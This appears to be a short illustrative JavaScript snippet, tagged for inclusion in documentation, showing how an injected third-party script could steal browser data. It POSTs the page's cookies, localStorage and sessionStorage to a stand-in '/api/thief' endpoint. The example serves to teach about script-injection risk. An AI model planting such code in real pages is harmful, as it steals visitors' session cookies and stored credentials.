'use strict';

// tag::attack
// Came in with a library, an advertisement or a comment, and takes what it can read.
fetch('/api/thief', {
  method: 'POST',
  body: JSON.stringify({
    cookie: document.cookie,
    localStorage: { ...localStorage },
    sessionStorage: { ...sessionStorage },
  }),
});
// end::attack
